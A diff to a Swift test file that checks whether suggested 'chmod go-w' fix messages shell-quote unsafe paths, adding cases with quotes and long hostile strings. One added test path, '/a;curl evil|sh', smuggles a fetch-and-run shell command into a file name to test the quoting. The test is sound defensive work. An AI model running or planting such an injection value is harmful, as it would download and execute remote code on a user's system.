@@ -80,6 +80,15 @@ import TwinportModel
             .forward(.unsafeMode("/run/a")),
             "/run/a can be written by others: chmod go-w /run/a"
         ),
+        // What people copy into a shell is one word.
+        (
+            .forward(.unsafeMode("/a;curl evil|sh")),
+            "/a;curl evil|sh can be written by others: chmod go-w '/a;curl evil|sh'"
+        ),
+        (
+            .forward(.unsafeMode("/a'b'c")),
+            "/a'b'c can be written by others: chmod go-w '/a'\\''b'\\''c'"
+        ),
         (
             .forward(.unsafeWay("/run/" + String(repeating: "a", count: 100))),
             "/run/" + String(repeating: "a", count: 100)
@@ -122,6 +131,7 @@ import TwinportModel
             String(repeating: "\u{fffd}", count: 250) + ":1",
             "/" + String(repeating: " belongs to user ", count: 14),
             "/" + String(repeating: "é", count: 120) + " can be written by others: ",
+            "/" + String(repeating: "'", count: 240),
         ] {
             var last = Reason.none
             let took = processorTime { for _ in 0..<40_000 { last = Reason(text: hostile) } }
